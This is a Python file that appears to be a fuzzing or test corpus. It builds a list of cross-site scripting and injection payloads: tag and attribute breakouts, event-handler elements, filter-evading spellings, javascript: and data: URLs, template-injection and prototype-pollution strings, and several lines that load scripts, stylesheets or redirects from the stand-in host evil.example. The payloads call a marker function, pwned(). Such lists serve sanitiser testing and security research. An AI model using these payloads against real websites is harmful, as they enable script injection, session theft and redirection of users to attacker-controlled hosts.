"""Text that wants to run in a browser: each calls pwned() or goes to another place if a page takes
it for markup, for an address or for a style."""

# What stands before, to get out of an attribute, a text, a comment or a script.
BREAKOUTS = ["", '">', "'>", "-->", "</textarea>", "</title>", "</script>", "]]>", "`>", "\\\">"]
# What runs as soon as it is parsed.
ELEMENTS = [
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<details open ontoggle=pwned()>x</details>",
    "<input autofocus onfocus=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<style onload=pwned()>*{}</style>",
    "<audio src=x onerror=pwned()>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
]
# Spellings that filters have let through, and what runs only in a place of its own.
OTHERS = [
    "<ScRiPt>pwned()</sCrIpT>", "<script/x>pwned()</script>", "<script\n>pwned()</script>",
    "<script>pwned()//", "<<script>pwned()//<</script>", "<img/src=x/onerror=pwned()>",
    "<img src=x onerror\n=\npwned()>", "<img src=x onerror=&#112;wned()>",
    "<img src=x onerror=\\u0070wned()>", "<img src=`x`onerror=pwned()>",
    "<IMG SRC=\"x\" ONERROR=\"pwned()\">", "<img src=x:x onerror=pwned()//",
    "<image src=x onerror=pwned()>", "<svg/onload=pwned()>", "<svg><g onload=pwned()></g></svg>",
    "<svg><style onload=pwned()></style></svg>", "<svg><set onbegin=pwned() attributename=x>",
    "<svg><a xlink:href=javascript:pwned()><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x onerror=pwned()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<math href=javascript:pwned()>x</math>", "<body onload=pwned()>", "<body onpageshow=pwned()>",
    "<object data=javascript:pwned()>", "<embed src=javascript:pwned()>",
    "<object data=data:text/html,<script>parent.pwned()</script>>",
    "<form action=javascript:pwned()><input type=submit autofocus>",
    "<button formaction=javascript:pwned() autofocus>x", "<a href=javascript:pwned()>x</a>",
    "<a href=' javascript:pwned()'>x</a>", "<a href=java&#9;script:pwned()>x</a>",
    "<a href=data:text/html,<script>pwned()</script>>x</a>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:pwned()>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example/x>",
    "<link rel=prefetch href=//evil.example/x onerror=pwned()>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<div style='background:url(javascript:pwned())'>x</div>",
    "<div style='width:expression(pwned())'>x</div>",
    "<div style='position:fixed;inset:0;background:red'>x</div>",
    "<marquee onstart=pwned()>x</marquee>", "<select autofocus onfocus=pwned()><option>x</select>",
    "<textarea autofocus onfocus=pwned()></textarea>", "<keygen autofocus onfocus=pwned()>",
    "<div contenteditable autofocus onfocus=pwned() tabindex=0>x</div>",
    "<div onmouseover=pwned()>x</div>", "<p oncontentvisibilityautostatechange=pwned() "
    "style=content-visibility:auto>x</p>", "<dialog open onclose=pwned()>x</dialog>",
    "<template><script>pwned()</script></template>", "<noscript><p title='</noscript>"
    "<img src=x onerror=pwned()>'>", "<xmp><img title='</xmp><img src=x onerror=pwned()>'>",
    "<video src=x onerror=pwned()>", "<video poster=javascript:pwned()>",
    "<isindex type=image src=x onerror=pwned()>", "<table background=javascript:pwned()>",
    "<portal src=javascript:pwned()>", "<frameset onload=pwned()>",
    "<link rel=icon href=//evil.example/x.ico>", "<img src=//evil.example/x>",
    "<img srcset='//evil.example/x 2x'>", "<script src=//evil.example/x.js></script>",
    "<script type=module>pwned()</script>", "<script>import('//evil.example/x.js')</script>",
    "javascript:pwned()", "javascript://x%0apwned()", "data:text/html,<script>pwned()</script>",
    "vbscript:pwned()", "//evil.example/", "#t=" + "0" * 64, "{{pwned()}}", "${pwned()}",
    "<%= pwned() %>", "#{pwned()}", "{{constructor.constructor('pwned()')()}}",
    "');pwned();('", "\");pwned();(\"", "\\');pwned();//", "`;pwned();`", "*/pwned();/*",
    "%3Cscript%3Epwned()%3C/script%3E", "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;img src=x onerror=pwned()&#62;", "\\x3cscript\\x3epwned()\\x3c/script\\x3e",
    "\u00abscript\u00bbpwned()", "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "\u2028<script>pwned()</script>", "\u202e>/x<pwned", "__proto__", "constructor",
    '{"__proto__":{"pwned":1}}', "<!--<img src='--><img src=x onerror=pwned()//'>",
    "<![CDATA[<script>pwned()</script>]]>", "<?xml version='1.0'?><x onclick=pwned()/>",
    "<img id=main name=nav src=x onerror=pwned()>", "<a id=token href=//evil.example/>x</a>",
]
PAYLOADS = [before + element for element in ELEMENTS for before in BREAKOUTS] + OTHERS
